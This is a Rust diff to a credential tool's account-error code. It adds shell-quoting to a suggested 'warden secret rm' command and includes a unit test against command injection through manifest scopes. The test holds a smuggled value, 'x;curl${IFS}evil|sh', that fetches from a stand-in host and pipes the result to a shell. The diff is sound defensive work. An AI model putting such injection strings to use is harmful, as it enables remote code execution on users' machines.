@@ -218,14 +218,58 @@ fn refuse_others(
         None if existing.extensions.is_empty() => "no extension".to_owned(),
         None => quoted(&existing.extensions),
     };
-    let scopes: String = key.scopes.iter().map(|s| format!(" --scope {s}")).collect();
     Err(AccountError::ConnectedForOthers {
         key: key.to_string(),
         vendor: key.vendor.clone(),
         extension: extension.to_owned(),
         owner,
-        remove: format!("warden secret rm {} {}{scopes}", key.vendor, key.handle),
+        remove: remove_command(key),
     })
+}
+
+/// The command that removes `key`, for a person to paste into a shell: its
+/// scopes come from a manifest or an authorization server, and a scope token
+/// may hold `;`, `$`, `|` or a backtick, so every part is shell-quoted.
+fn remove_command(key: &AccountKey) -> String {
+    let mut command = format!(
+        "warden secret rm {} {}",
+        shell_word(&key.vendor),
+        shell_word(&key.handle)
+    );
+    for scope in &key.scopes {
+        command.push_str(" --scope ");
+        command.push_str(&shell_word(scope));
+    }
+    command
+}
+
+/// `word` as one POSIX shell word: as it is when plain, else single-quoted.
+fn shell_word(word: &str) -> String {
+    let plain = !word.is_empty()
+        && word
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "-_.:/@%+=,".contains(c));
+    if plain {
+        word.to_owned()
+    } else {
+        format!("'{}'", word.replace('\'', r"'\''"))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A hostile manifest's scope (any RFC 6749 scope token) went into the
+    /// suggested command as it was: pasted, it ran its own command.
+    #[test]
+    fn the_remove_command_quotes_what_a_manifest_named() {
+        let key = AccountKey::new("github", "gh", ["repo", "x;curl${IFS}evil|sh", "it's"]);
+        assert_eq!(
+            remove_command(&key),
+            r"warden secret rm github gh --scope 'it'\''s' --scope repo --scope 'x;curl${IFS}evil|sh'"
+        );
+    }
 }
 
 fn declared(package: &Package, vendor: &str, handle: &str) -> Option<DeclaredCredential> {
